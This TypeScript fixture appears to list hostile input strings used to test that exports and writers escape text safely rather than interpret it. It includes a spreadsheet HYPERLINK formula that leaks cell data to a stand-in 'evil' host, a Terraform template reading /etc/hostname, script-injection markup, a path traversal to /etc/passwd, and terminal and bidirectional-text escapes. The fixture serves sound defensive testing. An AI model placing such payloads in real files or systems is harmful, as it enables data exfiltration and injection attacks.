/** Texts that something on the way takes for more than text: each exit writes them so that they are read as they were, and nothing is run. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Templates of Terraform, and what looks like a token of cdktf.
  '${file("/etc/hostname")}',
  '%{ if true }x%{ endif }',
  '$${x} and $$${x}',
  '%%{x} %${1}',
  'cost $',
  '${TfToken[TOKEN.99999]}',
  '$${TfToken[TOKEN.99999]}',
  '#{TfToken[TOKEN.99999]}',
  '&{TfToken[TOKEN.99999]}',
  '-8.109562212684316e+298',
  '2e5',
  // Formulas of a spreadsheet.
  '=1+1',
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  "'=1",
  "''@x",
  '\uff1d1+1',
  // Separators of lists, tables and lines.
  'a,b;c|d',
  'a"b\'c`d',
  'a\\b\\"c',
  'line\nbreak',
  'carriage\rreturn',
  'line\u2028separator',
  ' leading and trailing ',
  'gpu[001-100],login',
  'key: [a, b] # c',
  '# comment',
  'a=b=c',
  // Markup.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&amp; & ]]> -->',
  '[link](javascript:alert(1)) ![i](x) **b** _i_',
  '| --- |',
  // Terminals.
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  'back\u0008space \u009b31m',
  'turned \u202egnp.exe',
  // Paths and names of objects.
  '../../etc/passwd',
  'CON',
  '__proto__',
  'constructor',
  'toString',
  // Scripts of other languages.
  '가산-1호기',
  'e\u0301 \u{1f600}',
];

/** Texts that no consumer takes: they are refused where they are declared. */
export const IMPOSSIBLE_TEXTS: readonly (readonly [string, string])[] = [
  ['NUL', 'a\u0000b'],
  ['a lone surrogate', 'a\ud800b'],
  ['another lone surrogate', '\udc00'],
  ['3,000 characters', 'x'.repeat(3_000)],
];
